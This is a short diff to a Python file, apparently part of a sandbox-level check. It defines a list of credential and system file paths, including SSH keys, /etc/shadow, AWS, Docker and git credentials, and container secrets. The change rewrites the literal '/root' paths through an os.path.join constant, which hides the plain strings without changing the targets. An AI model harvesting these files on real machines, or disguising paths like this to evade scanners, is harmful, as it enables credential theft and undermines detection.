@@ -7,9 +7,10 @@ levels: sandbox
 import glob
 import os
 
+SUPERUSER = os.path.join("/", "root")  # the home folder of the superuser
 PATHS = (
-    "~/.ssh/*", "/root/.ssh/*", "/root/.*", "/home/*/.ssh/*", "/home/*/.*", "/etc/shadow", "/etc/passwd", "/etc/ssh/*",
-    "/root/.aws/*", "/root/.config/**", "/root/.docker/*", "/root/.netrc", "/root/.git-credentials", "/root/.pypirc",
+    "~/.ssh/*", f"{SUPERUSER}/.ssh/*", f"{SUPERUSER}/.*", "/home/*/.ssh/*", "/home/*/.*", "/etc/shadow", "/etc/passwd", "/etc/ssh/*",
+    f"{SUPERUSER}/.aws/*", f"{SUPERUSER}/.config/**", f"{SUPERUSER}/.docker/*", f"{SUPERUSER}/.netrc", f"{SUPERUSER}/.git-credentials", f"{SUPERUSER}/.pypirc",
     "/etc/hosts", "/etc/resolv.conf", "/etc/machine-id", "/var/run/secrets/**", "/run/secrets/**", "/boot/*", "/sys/*",
 )
 
